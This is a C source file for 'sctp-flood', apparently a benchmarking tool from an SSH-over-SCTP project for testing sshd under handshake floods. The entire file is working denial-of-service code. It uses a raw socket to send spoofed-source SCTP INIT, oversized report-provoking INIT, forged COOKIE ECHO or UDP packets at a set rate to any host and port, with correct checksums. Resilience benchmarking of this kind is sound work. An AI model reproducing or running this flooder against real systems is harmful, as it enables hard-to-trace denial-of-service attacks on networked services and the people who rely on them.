/*
 * Copyright (c) 2026 The openssh-sctp authors.
 *
 * Permission to use, copy, modify, and distribute this software for any
 * purpose with or without fee is hereby granted, provided that the above
 * copyright notice and this permission notice appear in all copies.
 *
 * THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
 * WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
 * MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
 * ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
 * WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
 * ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
 * OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
 */

/*
 * sctp-flood: handshake floods against an SCTP port (the seeds' attack
 * T5), for the benchmark of sshd under them.  IPv4, raw socket with
 * IP_HDRINCL (root), so that any source address can be given.
 *
 *   sctp-flood KIND SRC DST PORT RATE SECONDS
 *
 * sends RATE packets a second for SECONDS to DST PORT, each from SRC (an
 * address, or a.b.c.0/24 for a random host of that /24 per packet) and a
 * random source port, and prints "sent N packets, B bytes (IP)".  KIND:
 *   init       an INIT (random tag and TSN, 10 streams each way)
 *   long-init  an INIT with 160 parameters of an unknown type the
 *              receiver must report back (top bits 11, RFC 9260 3.2.1),
 *              1300 bytes in all: the INIT ACK carries the INIT in its
 *              cookie and the report besides
 *   cookie     a COOKIE ECHO with a random tag and 200 random bytes: the
 *              receiver must verify a cookie that is not its own
 *   udp        not SCTP: a UDP datagram of 8 random bytes (checksum 0,
 *              allowed over IPv4), e.g. against a UDP forward, each from a
 *              new source
 * The checksum is CRC32c (RFC 9260 appendix A), computed here.
 */

#include <sys/types.h>
#include <sys/socket.h>

#include <netinet/in.h>
#include <netinet/ip.h>
#include <arpa/inet.h>

#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define PKT_MAX		1500
#define LONG_PARAMS	160

static uint32_t crc_table[256];

static void
crc_init(void)
{
	uint32_t c;
	int i, k;

	for (i = 0; i < 256; i++) {
		c = i;
		for (k = 0; k < 8; k++)
			c = (c & 1) ? (c >> 1) ^ 0x82f63b78 : c >> 1;
		crc_table[i] = c;
	}
}

static uint32_t
crc32c(const uint8_t *p, size_t len)
{
	uint32_t c = 0xffffffff;

	while (len-- > 0)
		c = crc_table[(c ^ *p++) & 0xff] ^ (c >> 8);
	return ~c;
}

static void
put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static uint32_t
rnd32(void)
{
	return ((uint32_t)random() << 16) ^ (uint32_t)random();
}

/* The SCTP packet (common header and one chunk) of KIND; its length. */
static size_t
make_packet(uint8_t *p, const char *kind, uint16_t dport)
{
	size_t len = 12, clen, i;
	uint32_t crc;

	memset(p, 0, PKT_MAX - 20);
	put16(p, 1024 + random() % 60000);	/* source port */
	put16(p + 2, dport);
	if (strcmp(kind, "udp") == 0) {
		put16(p + 4, 16);		/* UDP length; checksum 0 */
		put32(p + 8, rnd32());
		put32(p + 12, rnd32());
		return 16;
	}
	if (strcmp(kind, "cookie") == 0) {
		put32(p + 4, rnd32());		/* a tag it never gave */
		clen = 4 + 200;
		p[len] = 10;			/* COOKIE ECHO */
		for (i = 4; i < clen; i++)
			p[len + i] = random();
	} else {
		/* vtag 0 */
		clen = 20;
		p[len] = 1;			/* INIT */
		put32(p + len + 4, rnd32() | 1);	/* initiate tag */
		put32(p + len + 8, 106496);	/* a_rwnd */
		put16(p + len + 12, 10);	/* outbound streams */
		put16(p + len + 14, 10);	/* inbound streams */
		put32(p + len + 16, rnd32());	/* initial TSN */
		if (strcmp(kind, "long-init") == 0) {
			for (i = 0; i < LONG_PARAMS; i++) {
				/* unknown, "skip and report" */
				put16(p + len + clen, 0xc1f0);
				put16(p + len + clen + 2, 8);
				put32(p + len + clen + 4, rnd32());
				clen += 8;
			}
		}
	}
	put16(p + len + 2, clen);
	len += clen;
	crc = crc32c(p, len);
	/* little-endian on the wire, as Linux writes it */
	p[8] = crc;
	p[9] = crc >> 8;
	p[10] = crc >> 16;
	p[11] = crc >> 24;
	return len;
}

int
main(int argc, char **argv)
{
	uint8_t pkt[PKT_MAX];
	struct sockaddr_in dst;
	struct in_addr srca;
	struct timespec t0, now;
	const char *kind, *slash;
	char srcbuf[64];
	double secs, rate, elapsed;
	unsigned long sent = 0, bytes = 0, due;
	uint32_t src, net;
	int fd, on = 1, prefix = 0, port;
	size_t len;

	if (argc != 7) {
		fprintf(stderr, "usage: sctp-flood init|long-init|cookie|udp "
		    "SRC DST PORT RATE SECONDS\n");
		return 2;
	}
	kind = argv[1];
	if (strcmp(kind, "init") != 0 && strcmp(kind, "long-init") != 0 &&
	    strcmp(kind, "cookie") != 0 && strcmp(kind, "udp") != 0) {
		fprintf(stderr, "sctp-flood: unknown kind %s\n", kind);
		return 2;
	}
	if (strlen(argv[2]) >= sizeof(srcbuf)) {
		fprintf(stderr, "sctp-flood: bad source %s\n", argv[2]);
		return 2;
	}
	snprintf(srcbuf, sizeof(srcbuf), "%s", argv[2]);
	if ((slash = strchr(argv[2], '/')) != NULL) {
		if (strcmp(slash, "/24") != 0) {
			fprintf(stderr, "sctp-flood: only /24 prefixes\n");
			return 2;
		}
		srcbuf[slash - argv[2]] = '\0';
		prefix = 1;
	}
	memset(&dst, 0, sizeof(dst));
	dst.sin_family = AF_INET;
	port = atoi(argv[4]);
	rate = atof(argv[5]);
	secs = atof(argv[6]);
	if (inet_pton(AF_INET, srcbuf, &srca) != 1 ||
	    inet_pton(AF_INET, argv[3], &dst.sin_addr) != 1 ||
	    port < 1 || port > 65535 || rate <= 0 || secs <= 0) {
		fprintf(stderr, "sctp-flood: bad address, port, rate or "
		    "time\n");
		return 2;
	}
	src = ntohl(srca.s_addr);
	net = src & 0xffffff00;
	crc_init();
	srandom(getpid() ^ time(NULL));
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1 ||
	    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) == -1) {
		perror("sctp-flood: raw socket");
		return 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		elapsed = (now.tv_sec - t0.tv_sec) +
		    (now.tv_nsec - t0.tv_nsec) / 1e9;
		if (elapsed >= secs)
			break;
		due = elapsed * rate;
		if (sent >= due) {
			usleep(1000);
			continue;
		}
		len = 20 + make_packet(pkt + 20, kind, port);
		/* IPv4 header; Linux fills in its checksum and id */
		memset(pkt, 0, 20);
		pkt[0] = 0x45;
		put16(pkt + 2, len);
		pkt[8] = 64;
		pkt[9] = strcmp(kind, "udp") == 0 ? IPPROTO_UDP :
		    IPPROTO_SCTP;
		put32(pkt + 12, prefix ? net | (1 + random() % 254) : src);
		memcpy(pkt + 16, &dst.sin_addr, 4);
		if (sendto(fd, pkt, len, 0, (struct sockaddr *)&dst,
		    sizeof(dst)) == -1) {
			if (errno == ENOBUFS || errno == EAGAIN)
				continue;
			perror("sctp-flood: sendto");
			return 1;
		}
		sent++;
		bytes += len;
	}
	printf("sent %lu packets, %lu bytes (IP)\n", sent, bytes);
	return 0;
}
